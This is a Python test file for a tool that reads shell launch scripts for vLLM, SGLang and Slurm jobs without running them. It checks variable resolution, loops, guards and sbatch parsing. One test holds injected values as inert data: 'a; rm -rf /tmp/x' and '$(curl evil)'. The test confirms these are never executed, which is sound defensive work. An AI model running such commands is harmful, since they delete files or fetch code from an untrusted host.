"""The importer's shell reader: a launch script read as the shell would read it, never run.
What the file sets is resolved; what it cannot know (a variable set elsewhere, a ``$(...)``) is
an unknown part shown as written; hostile text stays data."""
from __future__ import annotations

from parc.importer.sh_eval import commands
from parc.importer.sh_values import U, lit


def _run(text: str, **kw):
    cmds, notes, _ = commands(text, "t.sh", **kw)
    return cmds, notes


def _words(c) -> list[str]:
    return [a.shown for a in c.args]


def test_variables_the_file_sets_are_resolved():
    cmds, _ = _run('TP=8\nMODEL="meta-llama/Llama-3.1-8B"\nvllm serve "$MODEL" --tensor-parallel-size ${TP}\n')
    assert _words(cmds[0]) == ["vllm", "serve", "meta-llama/Llama-3.1-8B", "--tensor-parallel-size", "8"]
    assert all(a.value is not None for a in cmds[0].args)


def test_unknown_variables_and_command_substitutions_stay_unknown():
    cmds, _ = _run('vllm serve m --tensor-parallel-size $TP --host $(hostname -i)\n')
    tp, host = cmds[0].args[4], cmds[0].args[6]
    assert tp.value is None and tp.text == (U("$TP"),)
    assert host.value is None and isinstance(host.text[0], U) and "hostname" in host.text[0].shown


def test_a_default_is_taken_and_noted():
    cmds, notes = _run('vllm serve m --tensor-parallel-size ${TP:-4}\n')
    assert _words(cmds[0])[-1] == "4"
    assert any("TP" in n for n in notes), notes


def test_arrays_functions_and_loops_are_followed():
    text = ('ARGS=(--tp 2)\nARGS+=(--dp 4)\nlaunch() { python -m sglang.launch_server "${ARGS[@]}" "$@"; }\n'
            'for p in 30000 30001; do launch --port $p; done\n')
    cmds, _ = _run(text)
    assert [_words(c)[3:] for c in cmds] == [["--tp", "2", "--dp", "4", "--port", "30000"],
                                            ["--tp", "2", "--dp", "4", "--port", "30001"]]


def test_script_arguments_come_from_the_caller():
    cmds, _ = _run('vllm serve "$1" --tensor-parallel-size 2\n', positional=[lit("org/model")])
    assert _words(cmds[0])[2] == "org/model"
    unknown, _ = _run('vllm serve "$1"\n')
    assert unknown[0].args[2].value is None


def test_hostile_text_is_never_run_and_stays_one_word():
    text = ('X="a; rm -rf /tmp/x"\nvllm serve m --served-model-name "$X" --chat-template "$(curl evil)" '
            "--api-key 'q\"uote' $'--tp\\n8'\n")
    cmds, _ = _run(text)
    assert len(cmds) == 1
    w = cmds[0].args
    assert w[4].value == "a; rm -rf /tmp/x"
    assert w[6].value is None                      # a $(...) is never run
    assert w[8].value == 'q"uote'
    assert w[9].value == "--tp\n8"                  # a newline inside a word is not a new option


def test_an_unbalanced_script_is_refused_not_guessed():
    import pytest

    from parc.importer.sh_tree import ShellSyntax

    with pytest.raises(ShellSyntax):
        _run('if true; then vllm serve m\n')


def test_a_fallback_after_a_check_is_read_and_both_redirections_parse():
    """``check &> /dev/null || ray start ...`` (SkyPilot's multi-node vLLM task): the launch after
    ``||`` runs when the check fails, which the file cannot know."""
    cmds, _ = _run("ps aux | grep ray | grep 6379 &> /dev/null || ray start --head --port 6379\ncd /x || exit 1\n"
                   "vllm serve m\n")
    assert [_words(c)[:2] for c in cmds] == [["ps", "aux"], ["grep", "ray"], ["grep", "6379"], ["ray", "start"],
                                             ["vllm", "serve"]]


def test_a_wrapper_option_with_an_unknown_value_is_still_the_wrappers():
    cmds, _ = _run("srun -N1 --nodelist=$NODE vllm serve m\n")
    assert _words(cmds[0]) == ["vllm", "serve", "m"]
    assert cmds[0].wrappers[0]["options"]["--nodelist"] == "$NODE"


def test_a_regex_match_in_a_test_is_one_word():
    """``[[ $x =~ ^(0|[1-9][0-9]*)$ ]]``, as parc's own launch scripts check a node rank."""
    cmds, _ = _run('r=1\nif [[ ! "$r" =~ ^(0|[1-9][0-9]*)$ ]] || (( r >= 2 )); then exit 2; fi\nvllm serve m\n')
    assert [_words(c)[:2] for c in cmds] == [["vllm", "serve"]]


def test_a_guard_on_what_the_file_does_not_know_is_read_as_passing():
    """parc's own node scripts check their rank argument and exit 2 without it: the launch after
    the guard is what the script runs where it is given one."""
    for text in ('if [[ ! "$SIZE" -ge 1 ]]; then echo usage >&2; exit 2; fi\nvllm serve m\n',
                 '[[ -n "$SIZE" ]] || exit 2\nvllm serve m\n', '[[ -z "$SIZE" ]] && { echo usage; exit 2; }\nvllm serve m\n'):
        cmds, notes = _run(text)
        assert [_words(c)[:2] for c in cmds] == [["vllm", "serve"]], (text, notes)
    # a value the file defaults decides the test: the script exits there, and the note says where
    cmds, notes = _run('n="${1:-}"\nif [[ -z "$n" ]]; then exit 2; fi\nvllm serve m\n')
    assert cmds == [] and any("exits at line 2" in n for n in notes), notes


def test_sbatch_directives_are_split_as_sbatch_splits_them():
    from parc.importer.slurm import sbatch_options

    text = ('#!/bin/bash\n#SBATCH -N2\n#SBATCH --job-name="my job"  # a comment\n#SBATCH --gres gpu:8\n'
            "#SBATCH --exclusive\nsrun hostname\n#SBATCH --nodes=64\n")
    opts = {k: v[0] for k, v in sbatch_options(text).items()}
    assert opts == {"nodes": "2", "job_name": "my job", "gres": "gpu:8", "exclusive": True}
